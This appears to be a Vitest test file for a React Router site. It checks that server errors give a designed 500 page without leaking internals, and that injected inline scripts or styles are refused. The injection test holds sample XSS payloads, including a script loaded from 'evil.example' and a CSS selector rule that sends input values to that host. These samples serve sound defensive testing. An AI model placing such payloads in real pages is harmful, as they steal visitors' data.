import { createElement, type ReactNode } from "react";
import { RouterContextProvider, type ServerBuild } from "react-router";
import { expect, test, vi } from "vitest";

import { refused } from "~/content/refused";
import { siteContext } from "~/context";
import { sha256, toBase64 } from "~/domain/digest";

import { createRender } from "../../workers/pages/create-render";
import { ORIGIN } from "./support/site";

const SECRET = "no table bookings_v9 at /srv/nightshift/desk.ts:41";

type Replaced = { readonly default?: () => ReactNode; readonly loader?: () => never };
type Answer = { readonly reply: Response; readonly reported: readonly unknown[] };

/** The deployed site with another home page, and without anything that stores bookings. */
async function askWith(replaced: Replaced, request = new Request(`${ORIGIN}/`)): Promise<Answer> {
  const build = (await import("virtual:react-router/server-build")) as unknown as ServerBuild;
  const home = build.routes["pages/home/route"];
  if (!home) throw new Error("There is no home page.");
  const module = { ...home.module, ...replaced };
  const broken = { ...build, routes: { ...build.routes, "pages/home/route": { ...home, module } } };
  const report = vi.fn<(error: unknown) => void>();
  const context = new RouterContextProvider();
  context.set(siteContext, {
    url: ORIGIN,
    analyticsId: null,
    turnstileSiteKey: null,
    meetingPlace: null,
    announcedPlace: null,
    mailed: false,
    posts: async () => ({ ok: true, records: [], version: "none", stale: false }),
    preview: async () => ({ kind: "missing" }),
    report,
    policy: { secure: true, trustedTypes: "enforce" },
    invite: async () => null,
    refused: null,
    visitorBooking: {
      find: async () => null,
      openDays: async () => [],
      move: async () => null,
      cancel: async () => null,
      erase: async () => null,
      confirm: async () => null,
      neverMail: async () => null,
      calendarFile: async () => null,
    },
    bookingForm: { openDays: async () => crash(), submit: async () => crash() },
  });
  const reply = await createRender(broken, "production")(request, context);
  return { reply, reported: report.mock.calls.flat() };
}

function crash(): never {
  throw new RangeError(SECRET);
}

test.each(["loader", "Component"] as const)(
  "ROUTE-04 an exception in the page's %s answers 500 with a designed page, and reveals nothing to the visitor",
  async (where) => {
    const { reply, reported } = await askWith(where === "loader" ? { loader: crash } : { default: crash });
    expect(reply.status).toBe(500);
    expect(reply.headers.get("content-type")).toBe("text/html; charset=utf-8");
    const html = await reply.text();
    expect(html.match(/<h1[^>]*>[^<]*/g)).toEqual([expect.stringMatching(/>Something went wrong on our end$/)]);
    expect(html).toContain('href="/"');
    expect(html).toContain("Free Demo");
    for (const leak of ["bookings_v9", "desk.ts", "RangeError", "    at "]) expect(html).not.toContain(leak);
    // React and the router may each log it.
    expect(new Set(reported.map(String))).toEqual(new Set([`RangeError: ${SECRET}`]));
  },
);

test.each(["GET", "POST"])(
  "ROUTE-04 BOOK-16 where the form as a page fails on a %s, it says to reload, and no button opens what is not there",
  async (method) => {
    const init = method === "POST" ? { method, body: new URLSearchParams({ name: "Ada" }) } : { method };
    const { reply, reported } = await askWith({}, new Request(`${ORIGIN}/book`, init));
    expect(reply.status).toBe(500);
    const html = await reply.text();
    expect(html).toContain(refused.failed.text);
    expect(html).toContain(`href="${refused.mailTo}"`);
    expect(html).not.toContain("commandfor=");
    expect(html).not.toContain("bookings_v9");
    expect(reported.map(String)).toContain(`RangeError: ${SECRET}`);
  },
);

/** A page into which somebody has injected markup. */
const withMarkup = (markup: string) => ({
  default: () => createElement("div", { dangerouslySetInnerHTML: { __html: markup } }),
});
const LOGGED = "Error: A page holds an inline script or style that is not the site's own.";

test.each([
  "<script>steal()</script>",
  "<SCRIPT type=module>steal()</SCRIPT>",
  '<script nonce="0">steal()</script>',
  "<script data-x=' type=\"application/ld+json\"'>steal()</script>",
  '<script src="https://evil.example/steal.js"></script>',
  "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
  "<script>never closed",
])("a page that holds %s is not sent: the visitor gets the page of an error, and the log says why", async (markup) => {
  const { reply, reported } = await askWith(withMarkup(markup));
  expect(reply.status).toBe(500);
  const html = await reply.text();
  expect(html).toContain("Something went wrong on our end");
  for (const injected of ["evil", "steal()"]) expect(html).not.toContain(injected);
  expect(reported.map(String)).toContain(LOGGED);
});

test("words that look like markup are words, and data is data", async () => {
  const hostile = '<style id="critical-css"></style></script><script>steal()</script>';
  const { reply, reported } = await askWith({
    default: () => [
      createElement("h1", { key: 1 }, hostile),
      createElement("script", { key: 2, type: "application/ld+json" }, "{}"),
    ],
  });
  expect([reply.status, reported]).toEqual([200, []]);
  const html = await reply.text();
  expect(html).toContain("&lt;style id=&quot;critical-css&quot;&gt;");
  // The policy lists everything that runs: the head's script, the router's two, and the one that starts them.
  const policy = reply.headers.get("content-security-policy")?.split("; ") ?? [];
  const hashesOf = (directive: string) =>
    policy.find((each) => each.startsWith(directive))?.match(/'sha256-[^']+'/g) ?? [];
  const foreign = toBase64(await sha256("steal()"));
  expect(hashesOf("script-src")).toHaveLength(4);
  expect(hashesOf("script-src")).not.toContain(`'sha256-${foreign}'`);
  expect(hashesOf("style-src")).toHaveLength(1);
});
